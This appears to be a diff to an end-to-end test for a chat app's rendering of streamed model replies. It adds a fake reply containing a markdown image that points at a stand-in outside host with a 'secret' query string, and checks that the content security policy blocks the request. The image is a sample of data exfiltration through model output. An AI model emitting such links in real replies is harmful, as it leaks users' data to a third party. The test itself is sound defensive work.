@@ -16,7 +16,8 @@ from tests.fakes.openai_server import FakeModel, FakeModelServer, text
 pytestmark = pytest.mark.e2e
 
 REPLY = (" ".join(f"word{i}" for i in range(100)) + "\n\n```python\ndef f(x):\n    return x\n```\n\n"
-         + r"The area is $$\int_0^1 x\,dx$$ here.")
+         + r"The area is $$\int_0^1 x\,dx$$ here." + "\n\n| left | right |\n|:--|--:|\n| a | b |\n\n"
+         + "![leak](http://203.0.113.9/pixel.png?q=secret)")
 
 
 def setup_model(page: Page, server: FakeModelServer) -> None:
@@ -26,7 +27,7 @@ def setup_model(page: Page, server: FakeModelServer) -> None:
 
 
 def test_streamed_reply_renders_a_few_times_a_second_then_once_at_the_end(
-    admin_page: Page, fake_model_server: FakeModelServer, fake_model: FakeModel
+    admin_page: Page, fake_model_server: FakeModelServer, fake_model: FakeModel, csp_violations: list[str]
 ) -> None:
     page = admin_page
     setup_model(page, fake_model_server)
@@ -37,6 +38,8 @@ def test_streamed_reply_renders_a_few_times_a_second_then_once_at_the_end(
             renders.append(time.monotonic())
 
     page.on("request", count)
+    answered: list[str] = []  # the addresses that got a response (a refused one gets none)
+    page.on("response", lambda r: answered.append(r.url))
     fake_model.push(text(REPLY, delay=0.03))  # ~105 chunks over ~3 s
     page.goto("/chat")
     page.get_by_label("Message").fill("**Explain** the `integral`")
@@ -57,6 +60,11 @@ def test_streamed_reply_renders_a_few_times_a_second_then_once_at_the_end(
     expect(block.locator(".code-lang")).to_have_text("python")
     expect(block.locator("pre code span.k")).to_have_text(["def", "return"])  # Pygments' keyword class
     expect(reply.locator(".math.display math msubsup mo")).to_have_text("∫")
+    # A table keeps its column alignment (a style attribute the policy allows); an image from another
+    # server is never fetched, so the address cannot carry what the agent read anywhere.
+    expect(reply.locator("td").last).to_have_css("text-align", "right")
+    assert not any("203.0.113.9" in url for url in answered)
+    assert any("203.0.113.9" in v and "img-src" in v for v in csp_violations), csp_violations
     # The title keeps the words of the question, not its markdown.
     expect(page.locator("#session-list .session-title").first).to_have_text("Explain the integral")
     expect(page.locator("#chat-title")).to_have_text("Explain the integral")
@@ -81,3 +89,4 @@ def test_streamed_reply_renders_a_few_times_a_second_then_once_at_the_end(
     expect(page.locator(".message.assistant .md em")).to_have_text("reply")
     expect(page.locator(".message.assistant .code-block")).to_have_count(1)
     assert len(batches) == 1 and not renders, (batches, renders)
+    csp_violations[:] = [v for v in csp_violations if "203.0.113.9" not in v]  # refused on purpose
